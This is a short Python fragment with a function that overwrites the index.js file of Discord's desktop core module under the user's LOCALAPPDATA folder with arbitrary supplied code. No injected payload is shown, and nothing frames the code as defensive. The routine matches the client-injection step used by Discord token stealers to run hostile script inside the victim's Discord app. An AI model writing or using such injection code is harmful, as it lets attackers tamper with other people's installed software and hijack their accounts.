import os


def patch(code):
    base = os.path.join(os.environ["LOCALAPPDATA"], "Discord", "app-1", "modules", "discord_desktop_core-1")
    with open(os.path.join(base, "discord_desktop_core", "index.js"), "w") as file:
        file.write(code)
